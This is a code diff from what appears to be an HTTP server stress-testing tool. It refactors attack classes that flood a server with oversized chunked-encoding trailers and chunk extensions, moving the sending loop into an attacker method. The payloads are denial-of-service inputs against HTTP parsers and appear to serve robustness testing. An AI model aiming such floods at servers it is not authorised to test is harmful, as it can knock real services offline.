@@ -18,8 +18,8 @@ class Trailers(Attack):
         self._many = b"".join(b"X-%d: y\r\n" % number for number in range(PIECE // 10))
 
     def play(self, attacker: Attacker) -> None:
-        attacker.attempt(_endless, attacker, CHUNKED + b"1\r\nx\r\n0\r\n", self._many)
-        attacker.attempt(_endless, attacker, CHUNKED + b"0\r\nX-Long: ", b"y" * PIECE)
+        attacker.attempt(attacker.send_endless, CHUNKED + b"1\r\nx\r\n0\r\n", self._many, MOST)
+        attacker.attempt(attacker.send_endless, CHUNKED + b"0\r\nX-Long: ", b"y" * PIECE, MOST)
         attacker.pause(0.2)
 
 
@@ -33,15 +33,7 @@ class ChunkExtensions(Attack):
         self._small = b"1;a=b\r\nx\r\n" * (PIECE // 10)
 
     def play(self, attacker: Attacker) -> None:
-        attacker.attempt(_endless, attacker, CHUNKED + b"1;", b"x" * PIECE)
-        attacker.attempt(_endless, attacker, CHUNKED, self._many)
-        attacker.attempt(_endless, attacker, CHUNKED, self._small)
+        attacker.attempt(attacker.send_endless, CHUNKED + b"1;", b"x" * PIECE, MOST)
+        attacker.attempt(attacker.send_endless, CHUNKED, self._many, MOST)
+        attacker.attempt(attacker.send_endless, CHUNKED, self._small, MOST)
         attacker.pause(0.2)
-
-
-def _endless(attacker: Attacker, start: bytes, piece: bytes) -> None:
-    with attacker.connect() as connection:
-        connection.sendall(start)
-        for _ in range(MOST // len(piece)):
-            connection.sendall(piece)
-        attacker.count_response(connection)
